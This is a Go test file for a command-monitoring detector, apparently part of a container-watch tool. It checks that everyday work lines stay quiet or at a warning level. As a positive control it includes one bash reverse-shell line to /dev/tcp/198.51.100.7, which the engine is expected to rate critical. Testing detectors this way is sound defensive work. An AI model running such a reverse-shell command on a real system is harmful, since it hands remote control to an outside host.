package detect_test

import (
	"testing"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/detect"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/engine"
	"github.com/code-on-incus/coi/pkg/coi"
)

// TestEverydayWork: every line of honest work in the manual is quiet, or a
// warning at most where the manual says so (T-W-04, R-MON-06).
func TestEverydayWork(t *testing.T) {
	cfg := engine.Config{Workspace: "/workspace", Home: "/home/code", User: "code"}
	hostile := detect.Sample{Line: "bash -i >& /dev/tcp/198.51.100.7/1 0>&1"}
	if got := engine.Judge(cfg, hostile, ""); got != coi.Critical {
		t.Fatalf("Judge of a hostile line = %q; the test would see nothing", got)
	}
	for _, w := range detect.Everyday {
		if w.Name == "" || w.Why == "" || len(w.Quiet)+len(w.Noted) == 0 {
			t.Errorf("%q lacks words or lines", w.Name)
		}
		for _, s := range w.Samples() {
			limit := s.Level
			if limit == "" {
				limit = coi.Warning
			}
			if got := engine.Judge(cfg, s, ""); got.Rank() >= limit.Rank() {
				t.Errorf("%s: %s: %s", w.Name, got, s.Line)
			}
		}
	}
}
